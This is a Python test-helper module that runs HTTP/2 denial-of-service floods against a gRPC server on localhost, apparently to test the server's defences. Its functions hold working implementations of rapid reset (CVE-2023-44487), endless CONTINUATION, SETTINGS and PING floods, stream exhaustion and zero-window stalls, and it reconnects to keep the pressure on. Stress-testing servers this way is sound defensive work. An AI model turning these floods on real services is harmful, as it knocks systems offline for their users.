"""HTTP/2 floods against a gRPC port, run in a process of their own (`Flood`), so that the attacker's
Python does not share the server's interpreter lock (the test servers run in the test process).

The attacking connections speak HTTP/2 with the `h2` library (the preface, the opening SETTINGS and
the request's header block); the flood's own frames are built with its frame layer (`hyperframe`)
and header encoder (`hpack`), since `h2` refuses some (a header block that never ends, streams
beyond the server's limit) and builds the others slower than a flood sends them. The attacker
answers the server's SETTINGS and PINGs as a real client would (a server applies its stream limit
only once its SETTINGS are acknowledged), and opens a new connection for each one the server
closes, so a defence that closes connections still faces the flood.

Each flood runs in rounds until the test closes the process's stdin, `--seconds` pass or
`--rounds` are sent, whichever comes first; it prints `flooding` once `--warmup` rounds went out on
all its connections, and a JSON summary (what was sent, what the server answered) when it stops.

    python -m support.h2_floods KIND PORT [--connections N] [--per-round M] [--warmup W] [--message HEX]
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

CANCEL = 0x8
RST_STREAM, SETTINGS, PING, ACK = 0x3, 0x4, 0x6, 0x1
FRAME_NAMES = {0x0: "data", 0x1: "headers", 0x3: "rst_stream", 0x4: "settings", 0x6: "ping", 0x7: "goaway"}
MANY_STREAMS = 5000  # requests `many_streams` keeps open on each connection


def request_headers(method: str = "ModelInfer") -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/inference.GRPCInferenceService/{method}"),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),  # codespell:ignore te
    ]


@dataclass
class Tally:
    """What the attacker sent and what the server answered, over all its connections."""

    rounds: int = 0
    connections: int = 0
    frames_sent: int = 0
    streams_opened: int = 0
    received: Counter[str] = field(default_factory=Counter)
    closed_by_server: int = 0
    refused_at_connect: int = 0
    stalled: int = 0


class Connection:
    """One attacking HTTP/2 connection: opened with `h2`, then fed raw frames by a flood."""

    def __init__(self, port: int, tally: Tally, *, requests: bool) -> None:
        """`requests`: the flood opens streams (the connection gets a request's header block)."""
        self.tally = tally
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.block = b""
        if requests:
            # One request through h2 itself (cancelled): its header block, encoded again, is then
            # all indexed entries, the same bytes for every later stream of the connection.
            self.h2.send_headers(1, request_headers(), end_stream=False)
            self.h2.reset_stream(1, CANCEL)
            self.block = self.h2.encoder.encode(request_headers())
        self.next_stream = 3
        self.ended = 0  # streams the server reset
        self.endless_block: int | None = None  # the stream of `continuation`'s header block
        self.buffer = b""
        self.message = b""  # a whole call's gRPC message, for the floods that send one
        self.open = True
        self.send(self.h2.data_to_send())
        tally.connections += 1

    def send(self, data: bytes) -> None:
        """All of `data`, or the connection is given up (the server stopped reading: a partial
        frame would leave it unusable)."""
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.tally.stalled += 1
            self.close()
        except OSError:
            self.close(by_server=True)

    def new_streams(self, count: int) -> Iterator[int]:
        for _ in range(count):
            if self.next_stream >= 2**31 - 1:
                return
            yield self.next_stream
            self.next_stream += 2
            self.tally.streams_opened += 1

    def pump(self) -> None:
        """Read what the server sent (without waiting): count its frames, acknowledge its SETTINGS
        and PINGs, note a GOAWAY or a closed connection."""
        replies = []
        while self.open and select.select([self.sock], [], [], 0)[0]:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.close(by_server=True)
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                payload = self.buffer[9 : 9 + length]
                self.buffer = self.buffer[9 + length :]
                self.tally.received[FRAME_NAMES.get(kind, "other")] += 1
                self.ended += kind == RST_STREAM
                if kind == SETTINGS and not flags & ACK:
                    replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
                elif kind == PING and not flags & ACK:
                    replies.append(PingFrame(0, opaque_data=payload, flags=["ACK"]).serialize())
        if replies and self.open:
            self.send(b"".join(replies))

    def close(self, *, by_server: bool = False) -> None:
        if self.open:
            self.open = False
            self.tally.closed_by_server += by_server
            self.sock.close()


Round = Callable[[Connection, int], list[bytes]]  # the frames of one round on a connection


def rapid_reset(conn: Connection, count: int) -> list[bytes]:
    """`count` requests, each cancelled by the client right after its HEADERS (CVE-2023-44487)."""
    frames = []
    for stream in conn.new_streams(count):
        frames.append(HeadersFrame(stream, data=conn.block, flags=["END_HEADERS"]).serialize())
        frames.append(RstStreamFrame(stream, error_code=CANCEL).serialize())
    return frames


# One complete header field, never indexed (it leaves the server's HPACK table as it was).
PAD_FIELD = Encoder().encode([NeverIndexedHeaderTuple("x-pad", "a" * 200)], huffman=False)


def continuation(conn: Connection, count: int) -> list[bytes]:
    """`count` CONTINUATION frames of a header block that never ends (its HEADERS frame, without
    END_HEADERS, on the connection's first round)."""
    opening = []
    if conn.endless_block is None:
        (conn.endless_block,) = conn.new_streams(1)
        opening.append(HeadersFrame(conn.endless_block, data=conn.block).serialize())
    return opening + [ContinuationFrame(conn.endless_block, data=PAD_FIELD * 20).serialize()] * count


def settings(conn: Connection, count: int) -> list[bytes]:
    """`count` SETTINGS frames, each of which the server must acknowledge."""
    return [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()] * count


def ping(conn: Connection, count: int) -> list[bytes]:
    """`count` PINGs, each of which the server must answer, on a connection without calls."""
    return [PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(count)]


def many_streams(conn: Connection, count: int) -> list[bytes]:
    """Up to `count` more requests left open (HEADERS, no message, no end), so that MANY_STREAMS
    are open on the connection whatever stream limit the server announced: one opened again for
    each the server reset."""
    count = min(count, MANY_STREAMS - ((conn.next_stream - 3) // 2 - conn.ended))
    return [
        HeadersFrame(stream, data=conn.block, flags=["END_HEADERS"]).serialize()
        for stream in conn.new_streams(count)
    ]


def zero_window(conn: Connection, count: int) -> list[bytes]:
    """Whole calls (the flood's `--message`) whose answers can never be sent: the connection's
    first round sets the client's receive window of every stream to 0
    (SETTINGS_INITIAL_WINDOW_SIZE), and the calls are kept open up to MANY_STREAMS (one opened
    again for each the server ends)."""
    opening = []
    if conn.next_stream == 3:
        opening.append(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    count = min(count, MANY_STREAMS - ((conn.next_stream - 3) // 2 - conn.ended))
    frames = []
    for stream in conn.new_streams(count):
        frames.append(HeadersFrame(stream, data=conn.block, flags=["END_HEADERS"]).serialize())
        frames.append(DataFrame(stream, data=conn.message, flags=["END_STREAM"]).serialize())
    return opening + frames


ROUNDS: dict[str, Round] = {
    "zero_window": zero_window,
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
    "many_streams": many_streams,
}
OPEN_STREAMS = {"rapid_reset", "continuation", "many_streams", "zero_window"}


def flood(
    kind: str,
    port: int,
    connections: int,
    per_round: int,
    *,
    warmup: int,
    seconds: float,
    rounds: int,
    message: bytes = b"",
) -> Tally:
    """Send `kind`'s rounds over `connections` connections until stdin closes (or the bounds),
    saying `flooding` once `warmup` rounds went out on all of them."""
    tally = Tally()
    stop = threading.Event()

    def wait_for_stop() -> None:  # the test closes stdin
        sys.stdin.read()
        stop.set()

    threading.Thread(target=wait_for_stop, daemon=True).start()
    make = ROUNDS[kind]
    deadline = time.monotonic() + seconds
    conns: list[Connection] = []
    complete = 0  # rounds sent on all `connections`
    for _ in range(rounds):
        if stop.is_set() or time.monotonic() > deadline:
            break
        conns = [c for c in conns if c.open]
        while len(conns) < connections:
            try:
                conns.append(Connection(port, tally, requests=kind in OPEN_STREAMS))
                conns[-1].message = message
            except OSError:
                tally.refused_at_connect += 1
                time.sleep(0.05)
                break
        for conn in conns:
            conn.pump()
            if conn.open and (frames := make(conn, per_round)):
                conn.send(b"".join(frames))
                tally.frames_sent += len(frames)
        tally.rounds += 1
        complete += len(conns) == connections
        if complete == warmup:
            print("flooding", flush=True)
        time.sleep(0.001)  # lets the reader see the stop between rounds
    for conn in conns:
        conn.pump()
        conn.close()
    return tally


@dataclass
class Flood:
    """A flood running in its own process; `stop()` ends it and returns its summary."""

    process: subprocess.Popen[str]

    @classmethod
    def start(
        cls,
        kind: str,
        port: int,
        *,
        connections: int = 1,
        per_round: int = 100,
        warmup: int = 2,
        message: bytes = b"",
    ) -> Flood:
        """`kind` flooding 127.0.0.1:`port` (see the module's usage), once it is under way;
        `message`: a serialised request, for the floods that send whole calls."""
        tests = Path(__file__).resolve().parents[1]
        options = {"--connections": connections, "--per-round": per_round, "--warmup": warmup}
        options |= {"--message": message.hex()} if message else {}
        command = [sys.executable, "-m", "support.h2_floods", kind, str(port)]
        command += [str(part) for pair in options.items() for part in pair]
        process = subprocess.Popen(
            command, cwd=tests, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        flood = cls(process)
        assert process.stdout is not None
        ready, _, _ = select.select([process.stdout], [], [], 30)
        line = process.stdout.readline() if ready else ""
        if line.strip() != "flooding":
            flood.stop()
            raise AssertionError(f"the {kind} flood did not start: {line!r}")
        return flood

    @property
    def running(self) -> bool:
        return self.process.poll() is None

    def stop(self, timeout: float = 30) -> dict[str, Any]:
        """Ends the flood (or kills it after `timeout` s); its summary ({} if it printed none)."""
        try:
            out, _ = self.process.communicate("", timeout=timeout)  # stdin closed: the stop
        except subprocess.TimeoutExpired:
            self.process.kill()
            out, _ = self.process.communicate(timeout=timeout)
        lines = [line for line in out.splitlines() if line.startswith("{")]
        return json.loads(lines[-1]) if lines else {}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=sorted(ROUNDS))
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--per-round", type=int, default=100)
    parser.add_argument("--warmup", type=int, default=2, help="rounds before `flooding`")
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--rounds", type=int, default=1_000_000)
    parser.add_argument("--message", default="", help="a serialised request (hex), for whole calls")
    args = parser.parse_args()
    body = bytes.fromhex(args.message)
    message = b"\0" + len(body).to_bytes(4, "big") + body  # framed as gRPC sends it
    options = {"warmup": args.warmup, "seconds": args.seconds, "rounds": args.rounds, "message": message}
    tally = flood(args.kind, args.port, args.connections, args.per_round, **options)
    summary = {**vars(tally), "received": dict(tally.received)}
    print(json.dumps(summary), flush=True)


if __name__ == "__main__":
    main()
